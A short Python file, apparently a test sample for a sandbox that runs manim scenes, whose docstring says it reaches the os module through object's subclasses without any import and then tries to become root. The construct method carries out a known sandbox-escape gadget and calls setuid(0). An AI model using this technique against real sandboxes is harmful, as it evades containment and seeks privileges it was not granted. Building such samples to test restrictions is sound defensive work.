"""Finds `os` through object's subclasses (no import at all), then tries to become root."""

from manim import Scene


class SubclassesWalk(Scene):
    def construct(self):
        for cls in ().__class__.__base__.__subclasses__():
            if cls.__name__ == "_wrap_close":
                namespace = cls.__init__.__globals__
                namespace["setuid"](0)
